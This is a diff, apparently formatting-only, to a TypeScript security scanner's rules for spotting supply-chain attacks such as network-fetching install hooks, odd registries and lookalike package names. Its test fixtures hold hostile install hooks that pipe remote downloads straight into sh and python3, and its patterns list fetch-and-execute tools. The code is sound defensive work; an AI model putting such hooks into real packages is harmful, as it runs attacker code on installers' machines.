@@ -6,12 +6,14 @@ import type { SourceFile } from '../source-file';
 import { HONEST_NEIGHBOURS, PLATFORM_NAMES, POPULAR_PACKAGES } from './known-names';
 import { runsDownload } from './remote-execution.rules';
 
-const INSTALLS = /\b(?:pip3?|uv\s{1,4}pip|pipx|uv|poetry)\s{1,4}(?:install|add)\s{1,4}([^\n;&|`]{1,300})|\b(?:npm|pnpm|yarn|bun)\s{1,4}(?:install|i|add)\s{1,4}([^\n;&|`]{1,300})/i;
+const INSTALLS =
+  /\b(?:pip3?|uv\s{1,4}pip|pipx|uv|poetry)\s{1,4}(?:install|add)\s{1,4}([^\n;&|`]{1,300})|\b(?:npm|pnpm|yarn|bun)\s{1,4}(?:install|i|add)\s{1,4}([^\n;&|`]{1,300})/i;
 const PACKAGE = /^(?:@[\w.-]{1,60}\/)?([a-z][\w.-]{2,60})(?:[=<>~!@[].{0,40})?$/i;
 const MANIFEST_ENTRY = /^\s{0,12}["']([a-z@][\w./@-]{2,80})["']\s{0,4}:\s{0,4}["'][\^~>=<*\d]/i;
 const SHORTEST = 5;
 const INSTALL_SCRIPT = /["'](?:pre|post)?install["']\s{0,4}:\s{0,4}["']/i;
-const FETCHES = /\bcurl\b|\bwget\b|https?:\/\/|\bpowershell\b|\bnode\s{1,4}-e\b|\bbase64\b|\beval\s{0,2}\(|child_process/i;
+const FETCHES =
+  /\bcurl\b|\bwget\b|https?:\/\/|\bpowershell\b|\bnode\s{1,4}-e\b|\bbase64\b|\beval\s{0,2}\(|child_process/i;
 const SETUP_HOOK = /\bcmdclass\b/;
 const SETUP_FETCH = /\bos\.system\s{0,2}\(|\bsubprocess\.|\burlopen\s{0,2}\(|\brequests\.(?:get|post)\b|\bb64decode\b/;
 const INDEX = /(?:--(?:extra-)?index-url|\bindex-url|\b-i|\bregistry)[\s=]{1,4}["']?(https?:\/\/[^\s"']{4,200})/i;
@@ -54,12 +56,16 @@ function* traps(source: SourceFile): Generator<Sight> {
 
 function weightOfSource(url: string): number | null {
   const [address] = addressesIn(url);
-  if (!address || address.kind === 'official' || address.kind === 'local' || address.kind === 'placeholder') return null;
+  if (!address || address.kind === 'official' || address.kind === 'local' || address.kind === 'placeholder')
+    return null;
   if (NAMELESS.has(address.kind) || address.kind === 'throwaway') return 65;
   return address.encrypted ? null : 40;
 }
 
-const shared = { severity: 'critical', fix: 'Depend on published packages by their exact names, from the public registry or one you name.' } as const;
+const shared = {
+  severity: 'critical',
+  fix: 'Depend on published packages by their exact names, from the public registry or one you name.',
+} as const;
 
 /** Dependencies that are not what they seem. */
 export const SUPPLY_CHAIN_RULES: readonly FileRule[] = [
@@ -93,7 +99,23 @@ export const SUPPLY_CHAIN_RULES: readonly FileRule[] = [
     files: ['manifest', 'code'],
     message: 'Installing the package runs something from the network.',
     rationale: 'It runs before anybody has looked at anything.',
-    needles: [['install', 'cmdclass'], ['curl', 'wget', 'http', 'powershell', 'node -e', 'base64', 'eval', 'os.system', 'subprocess', 'urlopen', 'requests.', 'child_process']],
+    needles: [
+      ['install', 'cmdclass'],
+      [
+        'curl',
+        'wget',
+        'http',
+        'powershell',
+        'node -e',
+        'base64',
+        'eval',
+        'os.system',
+        'subprocess',
+        'urlopen',
+        'requests.',
+        'child_process',
+      ],
+    ],
     *find(source) {
       if (/package\.json$/i.test(source.path)) {
         for (const line of linesWith(source, ['install"', "install'"])) {
@@ -104,17 +126,24 @@ export const SUPPLY_CHAIN_RULES: readonly FileRule[] = [
       } else if (/setup\.py$/i.test(source.path) && SETUP_HOOK.test(source.text)) {
         for (const line of linesWith(source, ['os.system', 'subprocess', 'urlopen', 'requests.', 'b64decode'])) {
           const text = source.line(line);
-          if (SETUP_FETCH.test(text)) yield { line, weight: runsDownload(text) || /https?:|b64decode/.test(text) ? 90 : 15 };
+          if (SETUP_FETCH.test(text))
+            yield { line, weight: runsDownload(text) || /https?:|b64decode/.test(text) ? 90 : 15 };
         }
       }
     },
     examples: {
       fires: [
         { path: 'package.json', text: '{ "scripts": { "preinstall": "curl -s https://acme.top/p.sh | sh" } }' },
-        { path: 'setup.py', text: 'os.system("curl -s http://203.0.113.9/p | python3")\nsetup(cmdclass={"install": I})' },
+        {
+          path: 'setup.py',
+          text: 'os.system("curl -s http://203.0.113.9/p | python3")\nsetup(cmdclass={"install": I})',
+        },
       ],
       passes: [
-        { path: 'package.json', text: '{ "homepage": "https://acme.dev",\n "scripts": { "postinstall": "node scripts/postinstall.js" } }' },
+        {
+          path: 'package.json',
+          text: '{ "homepage": "https://acme.dev",\n "scripts": { "postinstall": "node scripts/postinstall.js" } }',
+        },
         { path: 'setup.py', text: 'setup(install_requires=["requests"])\nsubprocess.run(["make"])' },
       ],
     },
@@ -149,7 +178,9 @@ function scriptFetches(text: string): boolean {
 
 function lookalike(slug: string): string | undefined {
   const plain = slug.replace(/[-_]/g, '').replaceAll('0', 'o').replaceAll('1', 'l');
-  return PLATFORM_NAMES.find((name) => plain !== slug.replace(/[-_]/g, '') ? plain === name : isOneEditAway(plain, name) && plain !== `${name}s`);
+  return PLATFORM_NAMES.find((name) =>
+    plain !== slug.replace(/[-_]/g, '') ? plain === name : isOneEditAway(plain, name) && plain !== `${name}s`,
+  );
 }
 
 export const LOOKALIKE_RULES: readonly BundleRule[] = [
